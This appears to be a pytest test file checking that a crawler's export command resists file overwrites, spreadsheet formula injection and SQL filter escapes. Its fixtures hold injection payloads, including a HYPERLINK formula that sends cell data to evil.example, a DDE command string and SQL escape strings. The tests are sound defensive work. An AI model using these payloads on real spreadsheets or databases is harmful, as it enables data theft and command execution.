"""``scrapy export`` against the files it writes and the SQL it is given (issue 15,
"Files and secrets").

One real crawl database for the module (the simulated site, 36 products); some
products are then delisted and some texts made formula-like with plain SQL on a
copy, as a later crawl or a hostile catalogue could leave them. The exporter runs
in this process on real files (``export_products``, as the command calls it),
and once as ``python -m scrapy export`` per case, all at once, for what the user
sees: exit status and message.
"""

from __future__ import annotations

import csv
import hashlib
import os
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy.exc import DataError, OperationalError

from matter_crawler.commands._database import (
    CommandError,
    QueryClock,
    open_read_only_database,
    query_timed_out,
    read_only_engine,
)
from matter_crawler.commands.export import check_output, export_products, where_problem

from ..helpers import PROJECT_ROOT, run_crawl, sqlite_url

# its module-scoped fixtures crawl: run the module on one pytest-xdist worker, once
pytestmark = pytest.mark.xdist_group(__name__)

#: Texts a spreadsheet program would run (OWASP's list of first characters).
FORMULAS = {
    "manufacturer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "+1+cmd|' /C calc'!A0",
    "device_type": "-2+3",
    "family_id": "@SUM(1+1)",
    "family_sku": "\t=1+1",
    "family_variant_sku": "\r=1+1",
}
DELISTED = 4


@pytest.fixture(scope="module")
def crawled(tmp_path_factory) -> Path:
    from sitesim.process import SimulatedSite

    path = tmp_path_factory.mktemp("export-crawl") / "matter.sqlite3"
    with SimulatedSite(products=36, seed=5) as site:
        run_crawl(site.base_url, sqlite_url(path)).check()
    return path


@pytest.fixture
def database(crawled, tmp_path) -> Path:
    """A copy of the crawl database: formula-like texts in the first product, some delisted."""
    path = tmp_path / "data" / "matter.sqlite3"
    path.parent.mkdir()
    with closing(sqlite3.connect(crawled)) as source, closing(sqlite3.connect(path)) as target:
        source.backup(target)
    # closed before the test starts: the last close folds the WAL into the file
    with closing(sqlite3.connect(path)) as conn, conn:
        assignments = ", ".join(f"{name} = ?" for name in FORMULAS)
        conn.execute(
            f"update products set {assignments} where id = (select min(id) from products)",
            list(FORMULAS.values()),
        )
        conn.execute(
            "update products set delisted_at = '2026-11-01 00:00:00.000000' "
            f"where id in (select id from products order by id desc limit {DELISTED})"
        )
    return path


def export_command(database: Path, args: tuple[str, ...]) -> list[str]:
    url = sqlite_url(database)
    return [sys.executable, "-m", "scrapy", "export", *args, "-s", f"DATABASE_URL={url}"]


def exports(database: Path, *commands: tuple[str, ...]) -> list[subprocess.CompletedProcess[str]]:
    """Several exports at once (each starts Scrapy: seconds), results in order."""
    started = [
        (
            args,
            subprocess.Popen(
                export_command(database, args),
                cwd=PROJECT_ROOT,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            ),
        )
        for args in commands
    ]
    results = []
    for args, process in started:
        stdout, stderr = process.communicate(timeout=180)
        results.append(subprocess.CompletedProcess(args, process.returncode, stdout, stderr))
    return results


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def product_count(database: Path, where: str = "1") -> int:
    with closing(sqlite3.connect(database)) as conn:
        return conn.execute(f"select count(*) from products where {where}").fetchone()[0]


def failed(result: subprocess.CompletedProcess[str], message: str) -> None:
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    assert message in result.stderr, result.stderr


# -- in this process -----------------------------------------------------------------------


@contextmanager
def opened(database: Path, timeout: float = 10) -> Iterator[tuple[object, QueryClock]]:
    clock = QueryClock(timeout)
    engine = open_read_only_database(sqlite_url(database), clock)
    try:
        yield engine, clock
    finally:
        engine.dispose()


def run_export(database: Path, output: Path | str, fmt: str = "csv", **options) -> int:
    with opened(database) as (engine, clock):
        return export_products(engine, str(output), fmt, database=database, clock=clock, **options)


def test_export_never_writes_over_the_database(database, tmp_path):
    database.chmod(0o640)
    before = digest(database)
    link = tmp_path / "products.csv"
    link.symlink_to(database)
    hard = tmp_path / "hard.csv"
    os.link(database, hard)
    for target in (
        database,  # its own path
        database.parent / ".." / database.parent.name / database.name,  # another spelling
        link,  # through a symlink
        hard,  # another name of the same file
        database.with_name(database.name + "-wal"),  # SQLite's files beside it
    ):
        with pytest.raises(CommandError, match="is the database"):
            run_export(database, target, force=True)
    assert digest(database) == before
    assert stat.S_IMODE(database.stat().st_mode) == 0o640
    assert product_count(database) == 36
    assert not list(database.parent.glob(".*partial")) + list(tmp_path.glob(".*partial"))


def test_an_existing_file_is_replaced_only_with_force_and_keeps_its_permissions(database, tmp_path):
    output = tmp_path / "products.csv"
    output.write_text("keep me\n")
    output.chmod(0o600)
    with pytest.raises(CommandError, match="exists: add --force to replace it"):
        run_export(database, output)
    assert output.read_text() == "keep me\n"

    assert run_export(database, output, force=True) == 36 - DELISTED
    assert output.read_text().startswith("id,url,")
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # as it was, not reset
    # a new file gets the usual permissions (0o666 less the umask)
    fresh = tmp_path / "fresh.xlsx"
    run_export(database, fresh, "xlsx")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask
    # a dangling symlink is replaced by the file (with --force), its target never created
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "elsewhere" / "target.csv")
    with pytest.raises(CommandError, match="exists"):
        check_output(dangling, force=False, database=database)
    run_export(database, dangling, force=True)
    assert not dangling.is_symlink()
    assert not (tmp_path / "elsewhere").exists()
    assert not list(tmp_path.glob(".*partial"))


def test_csv_cells_that_start_like_a_formula_are_text(database, tmp_path):
    output, raw, workbook = tmp_path / "products.csv", tmp_path / "raw.csv", tmp_path / "p.xlsx"
    run_export(database, output)
    run_export(database, raw, raw=True)
    run_export(database, workbook, "xlsx")
    with output.open(newline="", encoding="utf-8") as stream:
        first = next(csv.DictReader(stream))
    for name, value in FORMULAS.items():
        assert first[name] == "'" + value, name
    with raw.open(newline="", encoding="utf-8") as stream:
        first = next(csv.DictReader(stream))
    assert {name: first[name] for name in FORMULAS} == FORMULAS
    sheet = openpyxl.load_workbook(workbook)["products"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    cells = dict(zip(header, next(sheet.iter_rows(min_row=2, max_row=2)), strict=True))
    for name, value in FORMULAS.items():
        assert (cells[name].value, cells[name].data_type) == (value, "s"), name


def test_where_cannot_undo_the_delisted_filter(database, tmp_path):
    output = tmp_path / "products.jsonl"
    for escape in ("1) OR (1", "1)) OR ((1", "0) OR delisted_at IS NOT NULL OR (0"):
        with pytest.raises(CommandError, match="closes a parenthesis"):
            run_export(database, output, "jsonl", where=escape)
    assert not output.exists()
    # one expression, parentheses in strings included, is fine
    assert run_export(database, output, "jsonl", where="(model != ')') OR (1 = 1)") == (
        36 - DELISTED
    )


def test_a_query_that_runs_for_ever_is_stopped(database, tmp_path):
    forever = (
        "id in (with recursive n(i) as (select 1 union all select i + 1 from n) "
        "select i from n where i < 0)"
    )
    started = time.monotonic()
    with opened(database, timeout=1) as (engine, clock), pytest.raises(OperationalError) as error:
        export_products(engine, str(tmp_path / "p.csv"), "csv", where=forever, clock=clock)
    assert time.monotonic() - started < 10
    assert query_timed_out(error.value, clock)
    assert not (tmp_path / "p.csv").exists()
    # a value too big to build is refused at once, not allocated
    with pytest.raises(DataError, match="string or blob too big"):
        run_export(database, tmp_path / "q.csv", where="length(zeroblob(500000000)) > 0")
    assert [path.name for path in tmp_path.iterdir()] == ["data"]  # nothing written


def test_the_export_connection_cannot_write(database):
    clock = QueryClock(5)
    engine = read_only_engine(sqlite_url(database), clock)
    try:
        with engine.connect() as conn:
            assert conn.exec_driver_sql("select count(*) from products").scalar() == 36
            for statement in (
                "update products set model = 'x'",
                "delete from products",
                "create table stolen (x)",
            ):
                with pytest.raises(OperationalError, match=r"readonly|read-only|query_only"):
                    conn.exec_driver_sql(statement)
    finally:
        engine.dispose()
    assert product_count(database, "model = 'x'") == 0


def test_where_problems():
    assert where_problem("vid_int = 4660") is None
    assert where_problem("manufacturer like 'Acme%' and tis_trp_tested") is None
    assert where_problem("model = 'a '')'' b'") is None  # an escaped quote, a ) in a string
    assert where_problem("\"model\" = 'x'") is None
    assert where_problem("1) OR (1") is not None
    assert where_problem("1; drop table products") == "';' is not allowed: give one condition"
    assert where_problem("model = 'open") == "unterminated ' quote"
    assert where_problem("1 /* x */") == "comments are not allowed"
    assert where_problem("1 -- x") == "comments are not allowed"
    assert where_problem("(1") == "a '(' is not closed"


# -- as the user runs it -------------------------------------------------------------------


def test_the_command_says_what_it_refused(database, tmp_path):
    existing = tmp_path / "existing.csv"
    existing.write_text("keep me\n")
    forever = "id in (with recursive n(i) as (select 1 union all select i + 1 from n) select i from n where i < 0)"
    database_refused, file_refused, where_refused, stopped, raw = exports(
        database,
        ("-o", str(database), "-f", "csv", "--force"),
        ("-o", str(existing)),
        ("-o", str(tmp_path / "p.csv"), "--where", "1) OR (1"),
        ("-o", str(tmp_path / "q.csv"), "--where", forever, "--timeout", "2"),
        ("-o", "-", "-f", "csv", "--raw", "--where", "id = (select min(id) from products)"),
    )
    failed(database_refused, f"is the database ({database}): refusing to write over it")
    failed(file_refused, f"{existing} exists: add --force to replace it")
    failed(where_refused, "--where '1) OR (1': a ')' closes a parenthesis it did not open")
    failed(stopped, "the query took longer than 2 s (--timeout): nothing written")
    assert raw.returncode == 0, raw.stderr
    (row,) = csv.DictReader(raw.stdout.splitlines())
    assert row["manufacturer"] == FORMULAS["manufacturer"]
    assert existing.read_text() == "keep me\n"
    assert not list(tmp_path.glob("[pq].csv"))
